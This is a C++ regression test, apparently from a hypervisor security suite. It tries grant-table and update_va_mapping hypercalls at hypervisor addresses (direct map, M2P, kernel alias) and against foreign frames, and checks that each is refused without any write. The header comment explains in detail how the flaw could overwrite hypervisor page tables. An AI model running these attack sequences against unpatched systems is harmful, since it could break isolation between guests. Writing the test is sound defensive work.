// Finding 1: a grant mapped into the hypervisor's address range.
//
// map_grant_ref without GNTMAP_contains_pte walks the caller's page tables to
// the L1 entry for host_addr. An address in the hypervisor's L4 slots
// (256-271) walks the hypervisor's own tables instead: in the direct map
// (2 MiB superpages) the walk takes a superpage entry for a pointer to an L1
// and writes the grant's PTE into the first frame of that 2 MiB block, at
// host_addr's L1 index; in the M2P (4 KiB pages) it replaces the M2P's own
// mapping, which every domain shares. The fixed hypervisor refuses every
// address there with GNTST_bad_virt_addr and writes nothing.
//
// The attacker is the back-end of a RING connection with guests/attack's
// granter (ref 8 writable, ref 9 read-only). It picks one of its own frames
// F that is 2 MiB aligned in machine memory, watches it through a read-only
// mapping, and aims at it: host_addr = DIRECTMAP + (F + idx) * 4096 lands in
// F at index idx, and so does the kernel image's alias KERNEL_VIRT + (F +
// idx) * 4096 (it maps physical 0..1 GiB with the same 2 MiB pages). It
// watches two pages of the M2P beyond the end of RAM's entries (nobody reads
// them). Then unmap_grant_ref with such addresses, the contains_pte path with
// machine addresses of frames that are not its own validated L1s, and
// update_va_mapping at hypervisor addresses: every one refused, nothing
// written.
//
// Command line: `reshuffle` looks for F only among frames given back and
// taken again with memory_op (what it does anyway when none of its frames
// is 2 MiB aligned), to exercise that path.

#include "common.hpp"

using namespace attack;

namespace {

using St = abi::GntStatus;
constexpr int16_t kBadVirt = int16_t(St::bad_virt_addr);

alignas(4096) uint8_t g_win[2][4096];      // where the grant is mapped legitimately
alignas(4096) uint8_t g_watch[4096];        // F, read-only
alignas(4096) uint64_t g_data[512];         // an ordinary page of ours (contains_pte target)
uint64_t g_snap[512];                        // F as last seen
uint64_t g_first[512];                       // F at the start
constexpr unsigned kM2pPages[] = {511, 300};
uint64_t g_m2p_snap[2][512], g_m2p_first[2][512];
uint8_t g_own[1 << 17];                      // our frames (mfn bitmap, 4 GiB of RAM)
abi::GnttabMapGrantRef g_batch[256];              // contains_pte at every frame not ours

constexpr unsigned kSpares = 512;
uint64_t g_spare[kSpares];                   // frames of ours nothing maps

void mark_own(uint64_t m) {
    if (m < 8 * sizeof g_own) g_own[m / 8] |= uint8_t(1u << (m % 8));
}

uint16_t g_peer;
uint32_t g_ref;
uint64_t g_f;          // the watched 2 MiB aligned frame of ours
uint64_t g_granted;    // the granter's frame (from our own L1 entry)

void find_aligned(unsigned n) {
    for (unsigned k = 0; k < n && !g_f; ++k)
        if (g_spare[k] % 512 == 0) g_f = g_spare[k];
}

uint64_t pattern(unsigned page, unsigned i) { return 0x4752414E54000000ull | uint64_t(page) << 16 | i; }

const volatile uint64_t* f_words() { return reinterpret_cast<const volatile uint64_t*>(g_watch); }
const volatile uint64_t* m2p_page(unsigned k) {
    return reinterpret_cast<const volatile uint64_t*>(kM2pVirt + uint64_t(kM2pPages[k]) * 4096);
}

void snapshot(uint64_t* f, uint64_t (*m)[512]) {
    for (unsigned i = 0; i < 512; ++i) f[i] = f_words()[i];
    for (unsigned k = 0; k < 2; ++k)
        for (unsigned i = 0; i < 512; ++i) m[k][i] = m2p_page(k)[i];
}

// What changed in F and the watched M2P pages since the last snapshot; the
// description goes to `out`. Takes a new snapshot.
bool changed(char* out, size_t cap) {
    out[0] = 0;
    bool any = false;
    for (unsigned i = 0; i < 512 && !any; ++i)
        if (f_words()[i] != g_snap[i]) {
            base::snformat(out, cap, "frame %#lx word %u: %#lx -> %#lx", g_f, i, g_snap[i], f_words()[i]);
            any = true;
        }
    for (unsigned k = 0; k < 2 && !any; ++k)
        for (unsigned i = 0; i < 512 && !any; ++i)
            if (m2p_page(k)[i] != g_m2p_snap[k][i]) {
                base::snformat(out, cap, "M2P page %u word %u: %#lx -> %#lx (every domain reads this page)", kM2pPages[k],
                               i, g_m2p_snap[k][i], m2p_page(k)[i]);
                any = true;
            }
    snapshot(g_snap, g_m2p_snap);
    return any;
}

long map_op(abi::GnttabMapGrantRef& op, uint64_t host_addr, uint32_t flags, uint32_t ref) {
    op = abi::GnttabMapGrantRef{};
    op.host_addr = host_addr;
    op.flags = abi::kGntmapHostMap | flags;
    op.ref = ref;
    op.dom = g_peer;
    return gnttab(abi::GnttabOp::map_grant_ref, &op);
}

long unmap_op(abi::GnttabUnmapGrantRef& op, uint64_t host_addr, uint32_t handle) {
    op = abi::GnttabUnmapGrantRef{};
    op.host_addr = host_addr;
    op.handle = handle;
    return gnttab(abi::GnttabOp::unmap_grant_ref, &op);
}

// One map that must be refused with bad_virt_addr and change nothing. A
// mapping that is made anyway is described, then taken down by its handle.
void must_refuse_map(const char* name, uint64_t host_addr, uint32_t flags = 0) {
    abi::GnttabMapGrantRef op;
    long r = map_op(op, host_addr, flags, g_ref);
    char what[160];
    bool wrote = changed(what, sizeof what);
    if (op.status == 0) {
        rt::printf("evidence: %s: map_grant_ref at %#lx succeeded (handle %u)%s%s\n", name, host_addr, op.handle,
                   wrote ? ": " : ", nothing seen written", what);
        abi::GnttabUnmapGrantRef u;
        (void)unmap_op(u, 0, op.handle);
        rt::printf("evidence: %s: unmapped by handle: status %d\n", name, u.status);
        char more[160];
        (void)changed(more, sizeof more);
    }
    check(r == 0 && op.status == kBadVirt && !wrote, name, "rc %ld status %d (want %d)%s%s", r, op.status, kBadVirt,
          wrote ? "; wrote " : "", what);
}

// The legitimate mapping at g_win[0]: present and holding the granted frame.
bool legit_intact() {
    uint64_t e = l1e_of(rt::ptr(g_win[0]));
    if (!(e & rt::kPteP) || ((e & rt::kPteAddr) >> 12) != g_granted) return false;
    const auto* w = reinterpret_cast<const volatile uint64_t*>(g_win[0]);
    for (unsigned i = 0; i < 512; ++i)
        if (w[i] != pattern(0, i)) return false;
    return true;
}

}  // namespace

void rt::main() {
    rt::events_init();
    check(bool(rt::xs_init()), "attack.grant_va.xenstore");
    RingEnd ring;
    char path[160];
    bool found = find_frontends(&ring, 1) == 1 &&
                 wait_number(node(path, sizeof path, ring.theirs, "state"), 3, rt::now_ns() + 60 * kSecond);
    long ref = found ? read_number(node(path, sizeof path, ring.theirs, "ring-ref")) : -1;
    check(found && ref > 0, "attack.grant_va.found_granter", "ref %ld", ref);
    if (!found || ref <= 0) return done();
    g_peer = uint16_t(ring.peer);
    g_ref = uint32_t(ref);

    // The legitimate use first: the grant maps where it should.
    abi::GnttabMapGrantRef legit;
    long r = map_op(legit, rt::ptr(g_win[0]), 0, g_ref);
    uint64_t e = l1e_of(rt::ptr(g_win[0]));
    g_granted = (e & rt::kPteAddr) >> 12;
    bool ok = r == 0 && legit.status == 0 && legit_intact();
    check(ok, "attack.grant_va.legit_map", "rc %ld status %d", r, legit.status);
    if (!ok) return done();

    // F: a frame of ours at a 2 MiB boundary, one nothing maps (all zero).
    const abi::StartInfo& si = rt::start_info();
    for (uint64_t pfn = 0; pfn < si.nr_pages; ++pfn) mark_own(rt::mfn_of_pfn(pfn));
    uint64_t first_spare = rt::first_unmapped_pfn();
    unsigned nspare = 0;
    for (uint64_t pfn = first_spare; pfn < si.nr_pages && nspare < kSpares; ++pfn) g_spare[nspare++] = rt::mfn_of_pfn(pfn);
    if (!rt::has_arg("reshuffle")) find_aligned(nspare);
    // None: give frames back and take as many again, until the allocator
    // hands us the head of a 2 MiB block.
    for (unsigned round = 0; round < 32 && !g_f && nspare; ++round) {
        long back = memory_op(abi::MemoryOp::decrease_reservation, g_spare, nspare);
        long again = back > 0 ? memory_op(abi::MemoryOp::increase_reservation, g_spare, uint64_t(back)) : 0;
        if (again <= 0) break;
        nspare = unsigned(again);
        for (unsigned k = 0; k < nspare; ++k) mark_own(g_spare[k]);
        find_aligned(nspare);
        if (g_f) rt::printf("a 2 MiB aligned frame after %u round(s) of giving %u frames back\n", round + 1, nspare);
    }
    ok = g_f != 0 && g_f + 512 < (1ull << 30) / 4096 && map_at(g_watch, g_f, false) == 0;
    check(ok, "attack.grant_va.own_2m_aligned_frame", "frame %#lx", g_f);
    if (!ok) return done();
    snapshot(g_first, g_m2p_first);
    snapshot(g_snap, g_m2p_snap);
    rt::printf("aiming at own frame %#lx (2 MiB aligned; watched read-only), granter's frame %#lx, ref %u of domain %u\n",
               g_f, g_granted, g_ref, g_peer);

    // --- map_grant_ref at hypervisor addresses -------------------------------------
    must_refuse_map("attack.grant_va.directmap_refused", kDirectMapVirt + (g_f + 100) * 4096);
    must_refuse_map("attack.grant_va.directmap_readonly_refused", kDirectMapVirt + (g_f + 102) * 4096,
                    abi::kGntmapReadonly);
    must_refuse_map("attack.grant_va.kernel_image_alias_refused", kKernelVirt + (g_f + 101) * 4096);
    // KERNEL_VIRT's first 2 MiB is physical 0: this one would land in frame 0 (not observable from here).
    must_refuse_map("attack.grant_va.kernel_image_refused", kKernelVirt + 511 * 4096);
    must_refuse_map("attack.grant_va.m2p_refused", kM2pVirt + uint64_t(kM2pPages[0]) * 4096, abi::kGntmapReadonly);
    must_refuse_map("attack.grant_va.m2p_writable_refused", kM2pVirt + uint64_t(kM2pPages[1]) * 4096);
    must_refuse_map("attack.grant_va.hypervisor_top_refused", kHypervisorTop);
    must_refuse_map("attack.grant_va.noncanonical_low_refused", 0x0000800000000000ull);
    must_refuse_map("attack.grant_va.noncanonical_high_refused", 0xFFFF7FFFFFFFF000ull);
    must_refuse_map("attack.grant_va.noncanonical_top_bit_refused", 0x8000000000000000ull);

    // --- contains_pte: machine addresses of frames that are not our validated L1s ----
    for (unsigned i = 0; i < 512; ++i) g_data[i] = pattern(7, i);
    uint64_t tables[5];
    own_tables(tables);
    struct {
        const char* name;
        uint64_t maddr;
    } ptes[] = {
        {"attack.grant_va.contains_pte_own_plain_frame_refused", g_f * 4096 + 200 * 8},
        {"attack.grant_va.contains_pte_own_data_page_refused", mfn_of_va(g_data) * 4096 + 7 * 8},
        {"attack.grant_va.contains_pte_own_l2_refused", tables[2] * 4096 + 500 * 8},
        {"attack.grant_va.contains_pte_granted_frame_refused", g_granted * 4096 + 9 * 8},
        {"attack.grant_va.contains_pte_frame_0_refused", 3 * 8},
    };
    for (auto& p : ptes) must_refuse_map(p.name, p.maddr, abi::kGntmapContainsPte);
    unsigned data_bad = 0;
    for (unsigned i = 0; i < 512; ++i) data_bad += g_data[i] != pattern(7, i);
    check(data_bad == 0 && legit_intact(), "attack.grant_va.contains_pte_targets_unchanged", "%u words of our page changed",
          data_bad);

    // Every frame of the machine that is not ours (the victim's among them).
    uint64_t max_mfn = uint64_t(rt::hypercall(abi::Hypercall::memory_op, uint64_t(abi::MemoryOp::maximum_ram_page), 0));
    uint64_t tried = 0, accepted = 0, other = 0, first_accepted = 0;
    for (uint64_t m = 0; m <= max_mfn && m < 8 * sizeof g_own;) {
        unsigned n = 0;
        uint64_t frames[256];
        for (; n < 256 && m <= max_mfn && m < 8 * sizeof g_own; ++m) {
            if ((g_own[m / 8] >> (m % 8)) & 1) continue;
            frames[n] = m;
            g_batch[n] = abi::GnttabMapGrantRef{};
            g_batch[n].host_addr = m * 4096;
            g_batch[n].flags = abi::kGntmapHostMap | abi::kGntmapContainsPte | abi::kGntmapReadonly;
            g_batch[n].ref = g_ref;
            g_batch[n].dom = g_peer;
            ++n;
        }
        if (n == 0) continue;
        (void)gnttab(abi::GnttabOp::map_grant_ref, g_batch, n);
        for (unsigned k = 0; k < n; ++k) {
            ++tried;
            if (g_batch[k].status == 0) {
                if (!accepted++) first_accepted = frames[k];
                abi::GnttabUnmapGrantRef u;
                (void)unmap_op(u, 0, g_batch[k].handle);
            } else if (g_batch[k].status != kBadVirt) {
                ++other;
            }
        }
    }
    rt::printf("contains_pte at every frame that is not ours: %lu tried, %lu accepted, %lu other statuses\n", tried,
               accepted, other);
    check(tried > 1000 && accepted == 0 && other == 0, "attack.grant_va.contains_pte_foreign_frames_refused",
          "%lu of %lu accepted (first %#lx), %lu other statuses", accepted, tried, first_accepted, other);

    // The control: our own validated L1 is a proper target.
    uint64_t slot = rt::l1e_maddr(rt::ptr(g_win[1]));
    abi::GnttabMapGrantRef own;
    r = map_op(own, slot, abi::kGntmapContainsPte | abi::kGntmapReadonly, g_ref);
    bool seen = r == 0 && own.status == 0 && reinterpret_cast<const volatile uint64_t*>(g_win[1])[5] == pattern(0, 5);
    abi::GnttabUnmapGrantRef u;
    long ur = own.status == 0 ? unmap_op(u, slot, own.handle) : -1;
    check(seen && ur == 0 && u.status == 0 && restore(g_win[1]) == 0, "attack.grant_va.contains_pte_own_l1_allowed",
          "rc %ld status %d", r, own.status);

    // --- unmap_grant_ref of the legitimate mapping named by hypervisor addresses ----
    uint64_t legit_l1 = 0;
    uint64_t legit_slot = rt::l1e_maddr(rt::ptr(g_win[0]), &legit_l1);
    unsigned legit_index = unsigned((legit_slot & 4095) / 8);
    const uint64_t unmaps[] = {
        kDirectMapVirt + (g_f + 103) * 4096,
        kDirectMapVirt + (legit_l1 + legit_index) * 4096,   // names its PTE's frame and index through the direct map
        kDirectMapVirt + legit_slot,
        kKernelVirt + 511 * 4096,
        kM2pVirt + uint64_t(kM2pPages[0]) * 4096,
        kHypervisorTop,
        0x0000800000000000ull,
    };
    unsigned refused = 0, n_unmaps = 0;
    for (uint64_t x : unmaps) {
        ++n_unmaps;
        r = unmap_op(u, x, legit.handle);
        bool intact = legit_intact();
        refused += r == 0 && u.status == kBadVirt && intact;
        if (!intact) {
            rt::printf("evidence: unmap_grant_ref at %#lx took the mapping down (status %d)\n", x, u.status);
            (void)map_op(legit, rt::ptr(g_win[0]), 0, g_ref);   // again, for what follows
        }
    }
    char what[160];
    bool wrote = changed(what, sizeof what);
    check(refused == n_unmaps && !wrote, "attack.grant_va.unmap_hypervisor_va_refused", "%u of %u refused%s%s", refused,
          n_unmaps, wrote ? "; " : "", what);
    r = unmap_op(u, rt::ptr(g_win[0]), legit.handle);
    check(r == 0 && u.status == 0 && restore(g_win[0]) == 0, "attack.grant_va.legit_unmap", "rc %ld status %d", r,
          u.status);

    // --- update_va_mapping at hypervisor addresses ----------------------------------
    const uint64_t vas[] = {
        kDirectMapVirt + (g_f + 104) * 4096, kKernelVirt + (g_f + 105) * 4096, kKernelVirt,
        kM2pVirt + uint64_t(kM2pPages[0]) * 4096, kHypervisorTop, 0x0000800000000000ull,
    };
    unsigned uvm_refused = 0;
    for (uint64_t x : vas) uvm_refused += rt::update_va_mapping(x, (g_f << 12) | rt::kPteP | rt::kPteA) == kEinval;
    wrote = changed(what, sizeof what);
    check(uvm_refused == sizeof vas / sizeof vas[0] && !wrote, "attack.grant_va.update_va_mapping_hypervisor_refused",
          "%u of %lu refused%s%s", uvm_refused, sizeof vas / sizeof vas[0], wrote ? "; " : "", what);

    // Over the whole run: F and the M2P pages as they were at the start.
    unsigned f_bad = 0, m_bad = 0;
    for (unsigned i = 0; i < 512; ++i) f_bad += f_words()[i] != g_first[i];
    for (unsigned k = 0; k < 2; ++k)
        for (unsigned i = 0; i < 512; ++i) m_bad += m2p_page(k)[i] != g_m2p_first[k][i];
    check(f_bad == 0 && m_bad == 0, "attack.grant_va.watched_memory_unchanged",
          "%u words of frame %#lx and %u words of the M2P changed", f_bad, g_f, m_bad);
    (void)restore(g_watch);

    // Done: the granter ends its grants (which must work: nothing of ours
    // maps them any more) and closes its end.
    (void)rt::xs_write(node(path, sizeof path, ring.mine, "state"), "6");
    bool closed = wait_number_or_gone(node(path, sizeof path, ring.theirs, "state"), 6, rt::now_ns() + 10 * kSecond);
    check(closed, "attack.grant_va.granter_closed");
    done();
}
